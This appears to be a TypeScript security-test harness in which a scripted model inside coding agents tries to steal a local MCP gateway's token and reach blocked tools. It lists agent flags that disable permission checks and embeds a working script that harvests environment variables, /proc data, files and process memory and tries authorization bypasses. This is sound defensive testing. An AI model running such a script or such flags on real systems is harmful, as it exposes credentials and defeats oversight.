import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { z } from 'zod';
import { portTools } from '../../sandbox/catalogue.ts';
import { type LocalPort, startLocalPort } from '../../sandbox/local-port.ts';
import { inputsFor } from '../support/port.ts';
import { runAction, type RunnerJob, type StepResult } from '../support/runner/index.ts';
import { programs, type ProgramName } from './programs.ts';
import { readers, shells } from './reach.ts';
import { opened, results, run } from './whole-way.ts';

/** The arguments and variables with which an agent lets its model run whatever it likes. */
const unbound: Readonly<
  Partial<Record<ProgramName, { args?: readonly string[]; env?: Readonly<Record<string, string>> }>>
> = {
  'claude-code': {
    args: ['--permission-mode', 'bypassPermissions'],
    // As root, too.
    env: { IS_SANDBOX: '1' },
  },
  codex: { args: ['--sandbox', 'danger-full-access'] },
  'codex exec': { args: ['--sandbox', 'danger-full-access'] },
  'gemini-cli': { args: ['--yolo'] },
  'copilot-cli': { args: ['--allow-all-tools', '--allow-all-paths'] },
};

/**
 * What a model does that wants the token, or a tool that is not open, and knows all that its agent
 * knows. Everything that it finds goes into the folder `$loot`. What could disturb others on this
 * machine is done to the gateway alone.
 */
const theft = `
exec 2> "$loot/errors"
ps axww > "$loot/ps"
pgrep -af . > "$loot/pgrep"
env > "$loot/env"
for process in /proc/[0-9]*; do
  cat $process/environ $process/cmdline $process/maps
  ls -l $process/fd
done > "$loot/proc"
find . ~ "$temp" -type f -size -1000k -exec cat {} + > "$loot/files"
for file in /proc/$gateway/fd/*; do timeout 0.2 head -c 65536 "$file"; done > "$loot/pipes"
address=$((0x$(head -n 1 /proc/$gateway/maps | cut -d- -f1)))
dd if=/proc/$gateway/mem bs=4 count=1 skip=$address iflag=skip_bytes of="$loot/mem"
kill -USR1 $gateway
sleep 0.3
for tcp in 9229 9230; do curl -s -m 1 http://127.0.0.1:$tcp/json/list; done > "$loot/inspector"

ask() { curl -s -i -m 5 -H 'content-type: application/json' -H 'accept: application/json, text/event-stream' -H "mcp-session-id: $session" "$@"; }
call() { echo '{"jsonrpc":"2.0","id":1,"method":"'$1'","params":{"name":"'$2'","arguments":{"identifier":"x"}}}'; }
key="authorization: Bearer $key"
origin=\${url%/mcp}
hello='{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"curl","version":"1"}}}'
session=$(ask -H "$key" "$url" -d "$hello" | tr -d '\\r' | sed -n 's/^mcp-session-id: //ip')
{
  ask -H "$key" "$url" -d "$(call tools/call $closed)"
  ask -H "$key" "$url" -d "$(call tools/run $closed)"
  ask -H "$key" "$url" -d "$(call Tools/Call $closed)"
  ask -H "$key" "$url" -d "[$(call tools/call $closed)]"
  ask -H "$key" "$url" -d "$(call tools/call $opened | sed "s/}\\$/,\\"Method\\":\\"tools\\/call\\",\\"params\\":{\\"name\\":\\"$closed\\"}}/")"
  ask -H "$key" -H 'x-read-only-mode: 0' -H 'x-allowed-actions-to-run: x' "$url" -d "$(call tools/call $closed)"
  ask -H "$key" -X PUT "$url" -d "$(call tools/call $closed)"
  ask -H "$key" "$origin/" -d "$(call tools/call $closed)"
  ask -H "$key" "$origin/mcp/../api/v1/auth/access_token" --path-as-is -d '{}'
  ask -H "$key" "$origin/record/"
  ask -H "$key" -H "host: \${port#http://}" "$url" -d "$(call tools/call $closed)"
  ask -H "$key" -x "$origin" "$port/mcp/v1" -d "$(call tools/call $closed)"
  ask -H "$key" -p -x "$origin" "$port/mcp/v1" -d "$(call tools/call $closed)"
  ask -H "$key" "$port/mcp/v1" -d "$(call tools/call $closed)"
  ask -X POST "$port/api/v1/auth/access_token" -d '{"clientId":"local-client-id","clientSecret":"'"\${key##* }"'"}'
} > "$loot/closed"
ask -H "$key" "$url" -d "$(call tools/call $opened)" > "$loot/open"
echo done > "$loot/end"
`;

export const open = 'list_blueprints';
export const closed = 'run_action';

export interface Theft {
  readonly port: LocalPort;
  readonly given: StepResult;
  /** The gateway's. */
  readonly key: string;
  /** The tools that Port has executed. */
  readonly executed: readonly string[];
  /** What the model has seen, and each file that it wrote. */
  readonly found: ReadonlyMap<string, string>;
}

/** What most agents let their model run without a question. */
const lookingOnly = [
  'ps axww',
  'pgrep -af .',
  'env',
  'cat /proc/[0-9]*/environ',
  'cat /proc/[0-9]*/cmdline',
];

/**
 * Has a scripted model steal through the agent, and says what it got.
 *
 * @param isBound the agent lets it run only what it lets every model run
 */
export async function stealThrough(
  name: ProgramName,
  job: RunnerJob,
  isBound = false,
): Promise<Theft> {
  const executed: string[] = [];
  const tools = portTools.map((tool) => ({
    ...tool,
    takes: [],
    call: (given: Readonly<Record<string, string>>) => {
      executed.push(tool.name);
      return { result: tool.call(given) };
    },
  }));
  const port = await opened(startLocalPort({ tools }));
  const given = await runAction({
    job,
    inputs: {
      ...inputsFor(port),
      agent: programs[name].agent,
      tools: open,
      read_only: 'true',
      allowed_actions: 'none',
      transport: 'gateway',
    },
  });
  const [gateway = 0] = job.processes();
  const { url, key } = serverOf(given.outputs);
  const loot = await mkdtemp(join(tmpdir(), 'loot-'));
  try {
    const facts = { loot, temp: job.temp, gateway, url, key, port: port.origin, open, closed };
    const set = Object.entries({ ...facts, opened: open }).map((one) => `${one[0]}='${one[1]}'`);
    const script = `${set.join('\n')}\n${theft}`;
    const shell = shells[name];
    const read = readers[name];
    const calls = [
      open,
      closed,
      // The script first: some agents end where a model asks for a folder that is not theirs.
      ...(shell ? [...(isBound ? [] : ['bash ./help.sh']), ...lookingOnly].map(shell) : []),
      ...(read ? ['.gemini/settings.json', '.qwen/settings.json'].map(read) : []),
    ];
    const { model } = await run(name, {
      ...(isBound ? {} : unbound[name]),
      calls,
      outputs: given.outputs,
      repository: { 'help.sh': script },
    });
    const files = await readdir(loot);
    const written = files.map(async (file): Promise<[string, string]> => [
      file,
      await readFile(join(loot, file), 'latin1'),
    ]);
    const found = new Map(await Promise.all(written));
    found.set('results', results(model).join('\n'));
    return { port, given, key, executed, found };
  } finally {
    await rm(loot, { recursive: true });
  }
}

/** The gateway's URL and key, wherever an agent's configuration has them. */
function serverOf(outputs: Readonly<Record<string, string>>): { url: string; key: string } {
  const [key = ''] = /(?<=Bearer )[\w-]{43}/.exec(outputs.mcp_config ?? '') ?? [];
  return { url: z.url().parse(outputs.mcp_url), key };
}
